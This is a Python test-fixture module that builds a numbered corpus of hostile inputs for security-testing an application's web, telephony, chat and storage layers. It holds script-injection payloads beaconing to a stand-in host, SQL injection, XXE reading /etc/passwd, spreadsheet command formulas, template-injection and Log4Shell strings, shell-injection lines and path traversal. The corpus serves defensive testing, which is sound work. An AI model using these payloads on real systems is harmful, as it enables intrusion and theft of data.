"""Bad words: what somebody might say, write or send to break, mislead or take over what keeps and shows it.

Each family attacks one thing. Whatever could run sets `pwned`, opens a dialog or asks `planted.example`, so that a
browser gives it away. `marked` puts a word of its own behind each, which is then looked for where no words belong.
All characters that cannot be seen are written as escapes.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass

ELSEWHERE = "planted.example"
"""A host that nothing of ours has a reason to ask."""

RUN = f"window.pwned=1;alert(1);new Image().src='//{ELSEWHERE}/'"
"""A script that cannot run unseen."""


MOST_BEFORE = 60
"""Characters of an input that its mark stands behind: however they are written out, an answer of 300 holds both."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Bad:
    """One bad input: the family says what it attacks, `number` counts through the whole corpus."""

    family: str
    number: int
    text: str

    @property
    def name(self) -> str:
        """For messages of tests."""
        return f"{self.family} {self.number}"

    @property
    def mark(self) -> str:
        """A word that stands nowhere else: letters and digits, so that no cleaning takes it away."""
        return f"zqv{self.number:03d}kx"

    @property
    def marked(self) -> str:
        """The input with its mark behind; before it where the end may be cut off."""
        return f"{self.mark} {self.text}" if len(self.text) > MOST_BEFORE else f"{self.text} {self.mark}"


_SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</p></div><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"<script src=//{ELSEWHERE}/a.js></script>",
    f"<script\x0dtype=module>{RUN}</script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<noscript><p title='</noscript><script>{RUN}</script>'>",
    "<script>//\u2028window.pwned=1</script>",
    f"<template><script>{RUN}</script></template>",
    f"\u2039script\u203a{RUN}\u2039/script\u203a",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
)

_HANDLERS = (
    f'<img src=x onerror="{RUN}">',
    f"<img/src=x/onerror={RUN}>",
    f'<svg onload="{RUN}">',
    f'<body onload="{RUN}">',
    f'<input autofocus onfocus="{RUN}">',
    f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    f'<video><source onerror="{RUN}"></video>',
    f'<audio src=x onerror="{RUN}"></audio>',
    f'<marquee onstart="{RUN}">go</marquee>',
    f'<p onmouseover="{RUN}">here</p>',
    f'<iframe srcdoc="&lt;script&gt;parent.{RUN}&lt;/script&gt;"></iframe>',
    f'<style>@keyframes a{{}}</style><b style="animation:a" onanimationstart="{RUN}">x</b>',
    f'<img src=x one\u0000rror="{RUN}">',
    f"<\u0000img src=x onerror={RUN}>",
    f'<select autofocus onfocus="{RUN}"></select>',
    f'<object data="//{ELSEWHERE}/x" onerror="{RUN}"></object>',
)

_QUOTES = (
    f'" onmouseover="{RUN}',
    f"' onmouseover='{RUN}",
    f'" autofocus onfocus="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' x='",
    f"` onfocus=`{RUN}",
    f'">\n<img src=x onerror="{RUN}">',
    f"'>\n<img src=x onerror='{RUN}'>",
    f"\\'-{RUN}-\\'",
    f'\\"-{RUN}-\\"',
    "&quot; onfocus=&quot;window.pwned=1",
    "&#34;&#62;&#60;img src=x onerror=window.pwned=1&#62;",
    "%22%3E%3Cimg%20src=x%20onerror=window.pwned=1%3E",
    "\\u003cimg src=x onerror=window.pwned=1\\u003e",
    "\\x3cimg src=x onerror=window.pwned=1\\x3e",
)

_ELEMENTS = (
    "<h1>The office is closed for ever</h1>",
    f'<a href="https://{ELSEWHERE}/">Click here to be paid</a>',
    f'<form action="https://{ELSEWHERE}/"><input name="password"><button>Sign in</button></form>',
    f'<base href="https://{ELSEWHERE}/">',
    f'<meta http-equiv="refresh" content="0;url=https://{ELSEWHERE}/">',
    f'<link rel="stylesheet" href="https://{ELSEWHERE}/a.css">',
    f"<style>@import 'https://{ELSEWHERE}/a.css'; body {{display: none}}</style>",
    f'<img src="https://{ELSEWHERE}/seen.png">',
    f'<iframe src="https://{ELSEWHERE}/"></iframe>',
    f'<embed src="https://{ELSEWHERE}/">',
    f'<svg><use href="https://{ELSEWHERE}/x.svg#a"></use></svg>',
    f'<div style="background: url(https://{ELSEWHERE}/)">x</div>',
    "<plaintext>",
    "<!-- nothing after this is to be seen",
    "<textarea>",
    "<table><tr><td>",
    "<bdo dir=rtl>123456</bdo>",
    '<div class="danger alert" role="alert">Danger</div>',
    '<input type="hidden" name="csrf_token" value="planted">',
    '<div data-at="x" data-version="999" data-list="log">',
    '<section id="main" data-poll="/console/sign-out"></section>',
    "<dialog open>Your session is over</dialog>",
)

_ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    "data:text/html,<script>window.pwned=1</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    f"https://{ELSEWHERE}/login?next=console",
    f"//{ELSEWHERE}/",
    f"\\\\{ELSEWHERE}\\share",
    f"https://town.example@{ELSEWHERE}/",
    "https://t\u043ewn.example/console",
    "https://xn--twn-jma.example/",
    "http://127.0.0.1:8000/console",
    "http://169.254.169.254/latest/meta-data/",
    "http://[::1]/",
    "gopher://127.0.0.1:5432/_x",
    "tel:+19005550199",
    "sms:+19005550199?body=YES",
    "tg://resolve?domain=planted",
)

_XML = (
    "]]><Hangup/>",
    "<![CDATA[ x ]]> <Hangup/>",
    "</Say><Hangup/><Say>",
    "</prosody></Say></Gather><Dial><Number>+19005550199</Number></Dial>",
    "</Response><Response><Reject/></Response>",
    f"<Redirect>https://{ELSEWHERE}/take-over</Redirect>",
    f"<Play>https://{ELSEWHERE}/loud.mp3</Play>",
    '<break time="999s"/>',
    '<prosody rate="500%">fast</prosody>',
    '<say-as interpret-as="telephone">4155550199</say-as>',
    '<phoneme alphabet="ipa" ph="x">y</phoneme>',
    f'<audio src="https://{ELSEWHERE}/a.mp3"/>',
    "<lang xml:lang='ru-RU'>x</lang>",
    "<?xml version='1.0'?><Response><Hangup/></Response>",
    '<!DOCTYPE x [<!ENTITY a "b">]>&a;',
    '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
    f'<!DOCTYPE x [<!ENTITY % a SYSTEM "https://{ELSEWHERE}/x.dtd"> %a;]>',
    "&lol9;&lol8;&lol7;",
    "&amp;amp;amp;lt;Hangup/&gt;",
    "&#0;&#1;&#xFFFE;&#xD800;",
    "<xi:include href='file:///etc/passwd'/>",
    "<?php echo 1; ?>",
    "<%= 7*7 %>",
    "a & b < c > d \" e ' f",
)

_SHEETS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    f'=HYPERLINK("https://{ELSEWHERE}/","Paid")',
    f'=IMPORTXML("https://{ELSEWHERE}/","//a")',
    f'=WEBSERVICE("https://{ELSEWHERE}/"&A1)',
    f'=IMAGE("https://{ELSEWHERE}/"&A1)',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "%0A=1+1",
    '",=1+1,"',
    '";=1+1;"',
    "a,b;c\td|e",
    '""""""',
    "a\r\nb,c,d",
    "{=1+1}",
    '=DDE("x";"y";"z")',
)

_SQL = (
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR ""="',
    "'; DROP TABLE handoffs; --",
    "'); DELETE FROM cases; --",
    "1; UPDATE staff SET active = true",
    "' UNION SELECT login, password FROM staff --",
    "admin'--",
    "admin'/*",
    "\\' OR 1=1 --",
    "\u02bc OR 1=1 --",
    "\u2019 OR 1=1 --",
    "\uff07 OR 1=1 --",
    "%' AND sleep(5) AND '%'='",
    "'||(SELECT pg_sleep(5))||'",
    "1); SELECT pg_sleep(5); --",
    "'; ATTACH DATABASE 'x.db' AS x; --",
    "'; PRAGMA writable_schema = 1; --",
    "$$; SELECT 1; $$",
    "E'\\x41'",
    "%_%_%_%",
    ":name :1 ?1 ? $1 %(name)s",
    "COPY staff TO PROGRAM 'id'",
    "\x00' OR 1=1 --",
)

_PATTERNS = (
    "{name}",
    "{0}",
    "{}",
    "{value.__class__.__mro__}",
    "{count} {number} {office} {town}",
    "{{7*7}}",
    "{% for x in config %}{{ x }}{% endfor %}",
    "{{ config.SECRET_KEY }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ request.application.__globals__ }}",
    "{# gone #}",
    "{%raw%}",
    "${7*7}",
    "#{7*7}",
    "*{7*7}",
    "<%= 7 * 7 %>",
    "%s%s%s%s%s%n",
    "%x%x%x",
    "%(name)s",
    "%d %",
    "%",
    "{",
    "}",
    "{name!r:>1000000}",
    "$name ${name}",
    "${jndi:ldap://planted.example/a}",
    "[[${7*7}]]",
    "\\g<0> \\1 $1 $&",
    "ngettext('a', 'b', 1)",
)

_SHELL = (
    "; id",
    "| id",
    "& id &",
    "&& id",
    "|| id",
    "`id`",
    "$(id)",
    "$(sleep 5)",
    "; rm -rf /tmp/planted;",
    "> /tmp/planted",
    "< /dev/zero",
    "\n/bin/sh -c id",
    "-rf",
    "--help",
    "--database=sqlite:///planted.db",
    "() { :;}; id",
    "~root",
    "*",
    "%COMSPEC%",
    "con.txt",
)

_PATHS = (
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "....//....//etc/passwd",
    "%2e%2e%2fetc%2fpasswd",
    "%252e%252e%252f",
    "..%c0%af..%c0%afetc",
    "/etc/passwd\x00.jpg",
    "/proc/self/environ",
    "file.txt:stream",
    "/console/requests/1/close",
    "/start ../../x",
    "\u2024\u2024\u2215etc",
)

_LINES = (
    "x\r\nHTTP/1.1 200 OK",
    "x\r\nSet-Cookie: console=planted",
    f"x\r\nLocation: https://{ELSEWHERE}/",
    "x\nBcc: all@planted.example",
    '\n{"at": "2026-01-01", "level": "info", "event": "signed_in", "staff": 1}',
    '\r\n{"event": "planted"}\r\n',
    '"}\n{"event": "planted"}',
    '\\n{"event":"planted"}',
    "\x1b[2J\x1b[H",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;planted\x07",
    f"\x1b]8;;https://{ELSEWHERE}/\x1b\\click\x1b]8;;\x1b\\",
    "\x1b[1A\x1b[2K",
    "\x1b[6n",
    "\x1bP+q544e\x1b\\",
    "\x9b31mred",
    "\x9d0;planted\x9c",
    "\x90+q\x9c",
    "\x08\x08\x08\x08",
    "\x0d           ",
    "\x0c",
    "\x0b",
    "\x07\x07\x07",
    "\x7f\x7f",
    "\x85next line",
    "\u2028line\u2029paragraph",
    "\x1c\x1d\x1e\x1f",
    "a\tb\tc",
    "\n\n\n\n\n\n\n\n\n\n",
)

_JSON = (
    '{"a": 1}',
    '"}',
    '"]}',
    "\\",
    '\\"',
    '","staff":"1',
    "\\u0000",
    "\\ud800",
    "null",
    "true",
    "NaN",
    "[[[[[[[[[[[[[[[[",
    '{"__proto__": {"pwned": 1}}',
    '{"phone": "+19005550199"}',
    '{"later": true}',
    '{"date": "9999-99-99"}',
    "!!python/object/apply:os.system ['id']",
    "yes: &a [*a]",
    "---\n- x",
)

_NULLS = (
    "\x00",
    "a\x00b",
    "\x00\x00\x00\x00",
    "person\x00",
    "0\x00",
    "\x00STOP",
    "\u2400",
    "%00",
    "\\0",
    "\ufffe\uffff",
    "\ufffd",
    "\U0001fffe\U0010ffff",
)

_HALVES = (
    "\ud800",
    "\udc00",
    "\udc00\ud800",
    "a\ud83d",
    "\ude00b",
    "\udcff\udcfe",
    "\ud800\ud800\ud800",
)

_BIDI = (
    "\u202eevil",
    "\u202dtaken",
    "\u202b\u05d0\u05d1 abc",
    "\u202aabc \u05d0",
    "\u2066abc",
    "\u2067abc",
    "\u2068abc",
    "\u2069\u2069\u2069abc",
    "\u202c\u202c\u202cabc",
    "\u202e" * 60 + "deep",
    "\u2067" * 126 + "deep",
    "pay 100\u202e 000 1",
    "Maria \u202ezepoL\u202c Lopez",
    "photo\u202egpj.exe",
    "\u200f\u200f(abc)",
    "\u061c123-456",
    "\u05d0\u05d1\u05d2 12-34 abc",
    "\u0645\u0631\u062d\u0628\u0627 <b>abc</b> 1/2",
    "abc \u0645\u0631\u062d\u0628\u0627 (1) [2]",
    "\u202e\u0645\u0631\u062d\u0628\u0627",
    "\u2067</p><p>\u2069",
    "a\u202e\nb\nc",
)

_UNSEEN = (
    "\u200b",
    "\u200b\u200c\u200d\u2060\ufeff",
    "d\u200ban\u200bger",
    "per\u200dson",
    "\u00ad" * 50 + "soft",
    "\u115f\u1160\u3164\uffa0",
    "\u2800\u2800\u2800",
    "\u00a0\u2007\u202f\u3000",
    "\u180e\u2061\u2062\u2063\u2064",
    "\U000e0068\U000e0069\U000e007f",
    "\ufe00\ufe0f\U000e0100",
    "a" + "\u200d" * 300 + "b",
    "\ufff9a\ufffab\ufffb",
    "\ue000\uf8ff\U000f0000",
    "\ufeffStart",
)

_PILES = (
    "a" + "\u0300" * 50,
    "a" + "\u0300" * 1500,
    "\u0300\u0301\u0302 begin",
    "z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034dalgo",
    "o\u20dd\u20de\u20e0\u20e3",
    "\u0e01" + "\u0e49" * 40,
    "\u0627" + "\u064b\u064c\u064d\u064e\u064f\u0650\u0651\u0652" * 10,
    "\u0915" + "\u094d\u0915" * 60,
    "e\u0301" * 200,
    "\u1100\u1161\u11a8" * 100,
    "\ufdfa" * 150,
    "\ufdfa" * 1500,
    "\u0344" * 300,
    "\ua9c5" * 200,
)

_ALIKE = (
    "\u0440\u0435rs\u043en",
    "ST\u041eP",
    "\u0405\u03a4\u039f\u03a1",
    "\uff33\uff34\uff2f\uff30",
    "\u1d42\u1d3a",
    "\U0001d5d7\U0001d5ee\U0001d5fb\U0001d5f4\U0001d5f2\U0001d5ff",
    "\U0001d4d0\U0001d4f7\U0001d4fe",
    "\u24d0\u24d1\u24d2",
    "\u212aelvin \u212bngstrom",
    "\u0131 \u0130 I i",
    "stra\u00dfe STRASSE",
    "\ufb01\ufb02\ufb03",
    "\u01c5 \u01f2",
    "\u0455\u0441r\u0456\u0440t",
    "Pl\u0430inline office",
    "\u037e \u0387 \u1fef",
    "\U0001f1fa\U0001f1f8 \U0001f170\U0001f171",
)

_DIGITS = (
    "9" * 400,
    "0" * 5000,
    "-1",
    "-0",
    "1e309",
    "0x7fffffffffffffff",
    "9223372036854775808",
    "18446744073709551616",
    "2147483648",
    "1.7976931348623157e+308",
    "Infinity",
    "0.1.2.3",
    "1/0",
    "\uff11\uff12\uff13",
    "\u0661\u0662\u0663",
    "\u06f1\u06f2\u06f3",
    "\u0967\u0968\u0969",
    "\u00b2\u00b3\u00b9",
    "\u2460\u2461",
    "\u2167",
    "\u00bd \u2153",
    "\u4e00\u4e8c\u4e09",
    "\U0001d7d9\U0001d7da",
    "\U0001e8c7",
    "1\u20e3 2\u20e3",
    "31.02.2026 99:99",
    "0000-00-00",
    "1,000,000,000,000,000,000",
    "nine hundred ninety nine trillion " * 8,
)

_TELEPHONES = (
    "+19005550199",
    "+1 415 555 0123 " * 20,
    "+14155550123;ext=1",
    "+1415555\uff10\uff11\uff12\uff13",
    "00000000000",
    "+" * 50,
    "tel:911",
    "sip:planted@planted.example",
    "client:planted",
    "whatsapp:+14155550123",
    "+266696687",
    "*21*4155550199#",
    "#31#",
    ",,,,1234#",
    "+1-415-555-0123\x00",
    "9" * 20 + "-" + "9" * 20,
    "($)1,000,000.00 EUR",
    "USD -5 \u20ac\u00a3\u00a5",
    "4111 1111 1111 1111",
    "078-05-1120",
)

_CHATS = (
    "*bold* _thin_ `code`",
    f"[press here](https://{ELSEWHERE}/)",
    "[me](tg://user?id=5550123)",
    "```\nx",
    "___***~~~|||",
    "\\*\\_\\[\\]",
    "<b>bold",
    f"<a href='https://{ELSEWHERE}/'>x</a>",
    "<tg-spoiler>x</tg-spoiler>",
    "<tg-emoji emoji-id='1'>x</tg-emoji>",
    "&lt;b&gt; &amp; &nosuch;",
    "/start@another_bot x",
    "/setcommands",
    "@everyone @admin #tag $CASH",
    "/" + "a" * 300,
    "1:yes",
    "999999999:person",
    "-1:yes",
)

_EMOJI = (
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "\U0001f44d\U0001f3fd" * 40,
    "\U0001f469\u200d" * 60,
    "\u2764\ufe0f\u200d\U0001f525",
    "\U0001f1e6" * 41,
    "\u26a0\ufe0f\U0001f6a8 \U0001f198",
    "\U0001f62e\u200d\U0001f4a8 \U0001fae8",
)

_LONG = (
    "a" * 1600,
    "a" * 4096,
    "word " * 800,
    "x" * 299 + "\U0001f468\u200d\U0001f469",
    "x" * 300 + " y",
    "(" * 1500,
    "<" * 1500,
    "&" * 1500,
    "\\" * 1500,
    '"' * 1500,
    "a a a a " * 300 + "!",
    "\u4e2d" * 1500,
    "\u0645" * 1500,
    "^{}[]~|\\\u20ac" * 100,
    ". " * 700,
    "aaaaaaaaaaaaaaaaaaaa@" * 60,
    "1 2 3 4 5 6 7 8 9 " * 80,
    "\u00ed" * 700,
)

FAMILIES: Mapping[str, tuple[str, ...]] = {
    "script": _SCRIPTS,
    "event handler": _HANDLERS,
    "end of an attribute": _QUOTES,
    "element": _ELEMENTS,
    "address": _ADDRESSES,
    "XML and TwiML": _XML,
    "spreadsheet": _SHEETS,
    "SQL": _SQL,
    "pattern": _PATTERNS,
    "shell": _SHELL,
    "path": _PATHS,
    "line and terminal": _LINES,
    "JSON and YAML": _JSON,
    "null": _NULLS,
    "half a character": _HALVES,
    "direction of writing": _BIDI,
    "not to be seen": _UNSEEN,
    "combining": _PILES,
    "lookalike": _ALIKE,
    "number": _DIGITS,
    "telephone and money": _TELEPHONES,
    "chat markup": _CHATS,
    "emoji": _EMOJI,
    "long": _LONG,
}


def _numbered() -> tuple[Bad, ...]:
    pairs = ((family, text) for family, texts in FAMILIES.items() for text in texts)
    return tuple(Bad(family=family, number=number, text=text) for number, (family, text) in enumerate(pairs))


CORPUS = _numbered()
"""All of it, in order."""

NOT_UTF8 = (b"%C0%AF", b"%C0%80", b"%ED%A0%BD%ED%B8%80", b"%FF%FE", b"%F4%90%80%80", b"%E2%82", b"%80", b"%", b"%u0041")
"""Bodies of forms that are no UTF-8, or no percent-encoding at all."""


def of(family: str) -> tuple[Bad, ...]:
    """The inputs of one family."""
    return tuple(bad for bad in CORPUS if bad.family == family)


def sendable(text: str) -> str:
    """The text as a form or a text message can carry it: half a character becomes "?"."""
    return text.encode("utf-8", "replace").decode()
